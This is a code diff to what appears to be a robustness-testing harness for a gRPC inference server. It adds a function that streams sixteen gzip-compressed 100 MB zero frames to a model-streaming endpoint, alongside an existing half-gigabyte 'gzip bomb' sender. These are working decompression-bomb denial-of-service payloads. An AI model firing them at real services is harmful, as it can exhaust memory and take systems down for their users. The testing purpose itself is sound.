@@ -98,14 +98,24 @@ def one_value_for_all(address: Address, count: int) -> Counter[str]:
 
 def gzip_bombs(address: Address, count: int) -> Counter[str]:
     """gRPC messages of half a gigabyte of zeros, compressed."""
-    content = _bomb()
-    frame = struct.pack(">BI", 1, len(content)) + content
-    return _call_each(address, frame, count, framed=True)
+    return _call_each(address, _compressed_frame(_bomb()), count, framed=True)
 
 
-def _call_each(address: Address, message: bytes, count: int, *, framed: bool = False) -> Counter[str]:
+def gzip_bombs_on_a_stream(address: Address, count: int) -> Counter[str]:
+    """Streams of sixteen messages of 100 MB of zeros each, compressed: all of them would be 1.6 GB."""
+    frames = _compressed_frame(gzip.compress(bytes(100_000_000))) * 16
+    return _call_each(address, frames, count, framed=True, path="/inference.GRPCInferenceService/ModelStreamInfer")
+
+
+def _compressed_frame(content: bytes) -> bytes:
+    return struct.pack(">BI", 1, len(content)) + content
+
+
+def _call_each(
+    address: Address, message: bytes, count: int, *, framed: bool = False, path: str = http2.PREDICT
+) -> Counter[str]:
     found: Counter[str] = Counter()
     for _ in range(count):
         encoding = [("grpc-encoding", "gzip")] if framed else []
-        found += http2.told_after(address, http2.grpc_call(1, message, encoding, framed=framed), calls=1)
+        found += http2.told_after(address, http2.grpc_call(1, message, encoding, framed=framed, path=path), calls=1)
     return found
